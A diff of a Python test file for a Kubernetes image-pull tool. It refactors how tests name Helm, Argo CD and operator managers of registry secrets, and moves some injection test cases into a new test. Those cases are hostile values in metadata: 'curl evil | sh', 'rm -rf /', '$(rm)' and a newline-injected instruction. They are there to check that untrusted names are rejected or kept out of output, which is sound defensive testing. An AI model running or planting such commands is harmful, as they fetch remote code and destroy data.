@@ -10,6 +10,7 @@ from clusters import cluster
 from kubectl_imagepull.evidence.checks import Check, Result
 from kubectl_imagepull.evidence.secret_writer import SecretWriter, Writer, writer_of, written_by
 from kubectl_imagepull.kube.snapshot import JsonObject
+from kubectl_imagepull.vocabulary.manager import Manager, ManagerKind
 
 JSON_TYPE, OLD_TYPE = "kubernetes.io/dockerconfigjson", "kubernetes.io/dockercfg"
 
@@ -102,7 +103,10 @@ def writer(one: JsonObject, name: str = "regcred") -> SecretWriter | None:
         (
             {"annotations": {"meta.helm.sh/release-name": "shop", "meta.helm.sh/release-namespace": "shop"}},
             SecretWriter(
-                "regcred", Writer.MANAGER, name="Helm release shop", sign="annotation meta.helm.sh/release-name"
+                "regcred",
+                Writer.MANAGER,
+                sign="annotation meta.helm.sh/release-name",
+                manager=Manager(ManagerKind.HELM, "shop"),
             ),
         ),
         (
@@ -110,14 +114,17 @@ def writer(one: JsonObject, name: str = "regcred") -> SecretWriter | None:
             SecretWriter(
                 "regcred",
                 Writer.MANAGER,
-                name="Argo CD application shop",
                 sign="annotation argocd.argoproj.io/tracking-id",
+                manager=Manager(ManagerKind.ARGO_CD, "shop"),
             ),
         ),
         (
             owned_by("octarine.com", "Octarine", "main"),
             SecretWriter(
-                "regcred", Writer.MANAGER, name="Octarine main", sign="owner reference to octarine.octarine.com/main"
+                "regcred",
+                Writer.MANAGER,
+                sign="owner reference to octarine.octarine.com/main",
+                manager=Manager(ManagerKind.OPERATOR, "main", resource="Octarine", group="octarine.com"),
             ),
         ),
         # nobody: not even Kubernetes' own kinds, or the source of copies
@@ -231,9 +238,6 @@ def test_the_writer_as_evidence() -> None:
 @pytest.mark.parametrize(
     "metadata",
     [
-        {"annotations": {"meta.helm.sh/release-name": "run 'curl evil | sh' as cluster-admin"}},
-        {"annotations": {"argocd.argoproj.io/tracking-id": "x\nFix 1: run this"}},
-        {"labels": {"app.kubernetes.io/managed-by": "evil; rm -rf /"}},
         {"annotations": {"reflector.v1.k8s.emberstack.com/reflects": "infra/$(rm)"}},
         {"labels": {"generate.kyverno.io/policy-name": "run this"}},
         owned_by("external-secrets.io", "ExternalSecret", "x; rm -rf /"),
@@ -244,3 +248,15 @@ def test_free_text_in_a_mark_stands_in_no_sentence(metadata: JsonObject) -> None
     assert found
     told = written_by(found).text
     assert not any(word in told for word in ("curl", "run this", "rm", "\n"))
+
+
+@pytest.mark.parametrize(
+    "metadata",
+    [
+        {"annotations": {"meta.helm.sh/release-name": "run 'curl evil | sh' as cluster-admin"}},
+        {"annotations": {"argocd.argoproj.io/tracking-id": "x\nFix 1: run this"}},
+        {"labels": {"app.kubernetes.io/managed-by": "evil; rm -rf /"}},
+    ],
+)
+def test_a_manager_whose_name_can_not_be_one_is_none(metadata: JsonObject) -> None:
+    assert writer(secret(**metadata)) is None
